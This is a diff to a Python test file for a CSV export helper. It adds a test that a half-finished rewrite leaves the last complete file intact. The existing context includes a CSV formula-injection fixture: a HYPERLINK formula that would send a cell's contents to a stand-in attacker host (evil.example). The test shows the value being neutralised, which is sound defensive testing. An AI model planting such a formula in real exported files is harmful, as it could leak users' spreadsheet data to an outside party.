@@ -3,6 +3,8 @@
 import csv
 from datetime import UTC, datetime
 
+import pytest
+
 from sdr_assets.csv_files import inert, write_csv
 
 
@@ -19,3 +21,19 @@ def test_text_a_spreadsheet_would_run_gets_a_leading_quote_and_nothing_else_chan
         read = list(csv.DictReader(fh))
     assert read == [{"name": '\'=HYPERLINK("http://evil.example/?x="&A1,"Calendar")', "email": "'=2+5@evil.example",
                      "hours": "-1.5", "at": str(moment)}, {"name": "Jane", "email": "", "hours": "", "at": ""}]
+
+
+def test_a_rewrite_that_fails_half_way_leaves_the_last_whole_export(tmp_path):
+    """A reader (a spreadsheet, `sdr handled` while a run holds the warehouse) sees one whole export."""
+    path = tmp_path / "escalations.csv"
+    write_csv(path, ["id", "email"], [{"id": "a", "email": "ann@acme.example"}, {"id": "b", "email": "bo@beta.example"}])
+
+    def rows():
+        yield {"id": "a", "email": "ann@acme.example"}
+        raise RuntimeError("the run died half-way through the rewrite")
+
+    with pytest.raises(RuntimeError):
+        write_csv(path, ["id", "email"], rows())
+    with path.open(newline="") as fh:
+        assert [r["id"] for r in csv.DictReader(fh)] == ["a", "b"]
+    assert [p.name for p in tmp_path.iterdir()] == ["escalations.csv"], "no partial file is left behind"
